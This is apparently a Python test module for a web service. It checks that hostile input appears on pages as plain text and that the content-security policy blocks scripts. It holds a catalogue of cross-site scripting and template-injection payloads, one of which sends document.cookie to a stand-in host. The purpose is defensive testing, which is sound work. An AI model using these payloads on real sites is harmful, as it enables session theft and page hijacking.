"""G6: hostile texts as they stand on pages: as text, nowhere as markup, a script or an attribute that runs."""

import re
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from urllib.parse import quote

from fastapi.testclient import TestClient
from httpx2 import Response

from service.findings.queries import findings
from service.settlement.queries import statements
from tests.conftest import World
from tests.service.hostile import code_of

RUNS = re.compile(r"^\s*(javascript|data:text|vbscript)", re.IGNORECASE)
MARK = "gk-mark"  # no page of ours has an element or an attribute of this name
DATA = ("application/json", "text/plain")  # scripts of these types run nowhere
ADDRESSED = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")
KINDS = {  # how a text could get out of where it is shown; {} is what would run
    "an image": '<img src=x onerror="{}">',
    "a script": "<script>{}</script>",
    "the end of a script": "</script><script>{}</script>",
    "the end of a title": "</title></textarea></style><svg onload={}>",
    "a frame": '<iframe srcdoc="<script>parent.{}</script>"></iframe>',
    "an attribute": '" onmouseover="{}" autofocus onfocus="{}',
    "an attribute, single": "' onmouseover='{}' x='",
    "an attribute without quotation": " onfocus={} autofocus tabindex=1 ",
    "an element of ours": f"<{MARK} {MARK}=1 onclick={{}}>",
    "a template's place": "${{{}}}",
    "a template in backquotes": "`+({})+`",
    "backslash and backquote": "\\\\`;{};//",
    "a string's end": "';{};//",
    "a string's end, double": '";{};//',
    "Jinja": "{{{{ cycler.__init__.__globals__ }}}}{{% for x in ().__class__.__mro__ %}}{{{{ x }}}}{{% endfor %}}{}",
    "an address": "javascript:{}",
    "a link": '<a href="javascript:{}">x</a>',
    "another host": '<img src="//elsewhere.example/{}"><link rel=stylesheet href=//elsewhere.example>',
    "a comment": "--><!--><svg/onload={}>",
    "entities": "&lt;img src=x onerror={}&gt;&#60;script&#62;{}&#x3c;/script&#x3e;",
    "line separators": "\u2028</script>\u2029<svg onload={}>",
    "mathematics": "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "a style": "<style>@import '//elsewhere.example'</style><p style='background:url(//elsewhere.example)' onclick={}>",
    "a form": "<form action=//elsewhere.example><button autofocus onfocus={}>x",
    "a base": "<base href=//elsewhere.example/><object data=javascript:{}>",
}
DOINGS = (
    "window.hacked=1",
    "alert(1)",
    "fetch('//elsewhere.example/'+document.cookie)",
    "document.title='hacked'",
    "top.hacked=1",
    "eval('hacked=1')",
    "new Image().src='//elsewhere.example'",
    "print()",
)


def payloads(count: int) -> list[str]:
    """Return so many payloads, each told apart by its number: every kind, then every kind doing something else."""
    made = [kind.format(*[doing] * kind.count("{}")) for doing in DOINGS for kind in KINDS.values()]
    return [f"{text}#{n}" for n, text in enumerate(made[:count])]


class _Page(HTMLParser):
    """What a browser makes of a page: its elements and attributes, and all that is read."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.words: list[str] = []
        self.nonces: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what our pages never have."""
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", MARK):
                self.wrong.append(f"<{tag} {name}=…>")
            if name in ADDRESSED and value and (RUNS.match(value) or re.match(r"(https?:)?//", value)):
                self.wrong.append(f"<{tag} {name}={value[:40]}>")
            self.words.append(value or "")
        if tag in (MARK, "iframe", "object", "embed", "base", "math"):
            self.wrong.append(f"<{tag}>")
        if tag in ("script", "style") and dict(attrs).get("type") not in DATA:
            self.nonces.append(dict(attrs).get("nonce"))

    def handle_data(self, data: str) -> None:
        """Note what is read, and what scripts are given."""
        self.words.append(data)


def faults(path: str, answer: Response) -> Iterator[str]:
    """Yield what a page has of somebody's markup, and what its policy would let run."""
    policy, text = answer.headers["content-security-policy"], answer.text
    page = _Page()
    page.feed(text)
    page.close()
    yield from (f"{path}: {fault}" for fault in page.wrong)
    nonce = re.search(r"script-src 'nonce-([\w-]+)'", policy)
    own = {nonce[1]} if nonce else set()
    if not own or "unsafe" in policy or "default-src 'none'" not in policy:
        yield f"{path}: its policy is {policy}"
    if foreign := set(page.nonces) - own:
        yield f"{path}: a script or style with {sorted(map(str, foreign))} for a nonce"


def shown(text: str) -> str:
    """Return all words of a page."""
    page = _Page()
    page.feed(text)
    return "\n".join(page.words)


def addresses(world: World, payloads: Sequence[str], uploads: Sequence[object] = ()) -> dict[str, list[str]]:
    """Return the pages to look at, by who opens them: lists and forms first, then the records of these payloads."""
    with world.session("auditor") as session:
        found = {record.plot.code: record.finding.code for record in findings(session)}
        stated = {record.contract.code.partition("-")[0]: record for record in statements(session)}
    records = [f"/uploads/{upload}" for upload in uploads]
    for n, payload in enumerate(payloads):
        code, record = code_of(payload), stated[f"K{n}"]
        records += [f"/findings/{found[code]}", f"/plots/{_quoted(code)}", f"/schemes/hostile-{n}/v1"]
        records += [f"/statements/{_quoted(record.statement.code)}", f"/contracts/{_quoted(record.contract.code)}"]
    lists = ["/map", "/map?theme=grade", "/map?theme=findings", "/plots", "/findings?state=all", "/tasks?state=all"]
    lists += ["/contracts", "/statements", "/uploads", "/changes", "/jobs", "/authority"]
    lists += [f"/findings?plot={_quoted(code_of(payload))}&state=all" for payload in payloads[:8]]
    forms = [f"/findings/new?plot={_quoted(code_of(payload))}" for payload in payloads[:8]]
    people = [f"/accounts/h{n}a" for n in range(len(payloads))]
    return {
        "auditor": [*lists, *records],
        "manager": ["/map", "/findings/new", "/uploads/new", "/statements", *forms],
        "admin": ["/accounts", *people],
        "h0a": ["/account", "/statements"],
    }


def _quoted(text: str) -> str:
    return quote(text, safe="")


def look(client: TestClient, paths: Sequence[str]) -> Iterator[tuple[str, str, list[str]]]:
    """Yield each page, its text and its faults."""
    for path in paths:
        answer = client.get(path, headers={"Accept": "text/html"})
        wrong = list(faults(path, answer))
        if answer.status_code >= 500:
            wrong.append(f"{path}: {answer.status_code}")
        yield path, answer.text, wrong


def repeated(world: World, payload: str) -> Iterator[tuple[str, Response]]:
    """Yield pages that show again what was sent: forms that are refused, an address that leads nowhere."""
    manager, nobody = world.browser("manager"), world.client()
    fields = ("plot", "type", "severity", "quantity", "text", "found_on", "lon", "lat", "client_id")
    yield "/findings/new", manager.post("/findings/new", data=dict.fromkeys(fields, payload))
    parts = {"kind": payload, "from": payload, "layout": payload, "client_id": payload}
    file = {"file": (payload.replace("/", ""), b"x")}
    yield "/uploads/new", manager.post("/uploads/new", data=parts, files=file)
    yield "/statements", manager.post("/statements", data={"contract": payload, "first": payload})
    yield "/sign-in", nobody.post("/sign-in", data={"name": payload, "password": payload, "to": payload})
    for path in (
        "/findings/",
        "/plots/",
        "/contracts/",
        "/map?theme=",
        "/findings?state=",
        "/changes?by=",
        "/nowhere/",
    ):
        yield path, manager.get(path + _quoted(payload), headers={"Accept": "text/html"})
